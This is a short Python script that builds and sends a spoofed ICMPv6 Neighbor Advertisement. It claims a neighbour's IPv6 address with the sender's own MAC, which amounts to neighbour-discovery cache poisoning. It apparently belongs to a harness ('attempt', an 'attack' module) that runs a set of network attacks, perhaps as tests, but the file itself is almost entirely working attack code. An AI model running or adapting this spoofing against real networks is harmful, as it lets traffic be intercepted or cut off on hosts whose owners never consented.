# SPDX-License-Identifier: Apache-2.0
"""Claiming the neighbour's address by neighbour discovery.

unheard: it stays on the link: what counts is that the node believes nothing
recorded: 6=~neighbour
"""
from attack import attempt, icmp6, packed


def way(a):
    body = bytes([0x60, 0, 0, 0]) + packed(a.neighbour) + b'\x02\x01' + a.mac
    a.frame(a.packet(58, icmp6(136, 0, body, a.neighbour, a.gateway), a.neighbour, a.gateway, hops=255))


attempt(way, (6,))
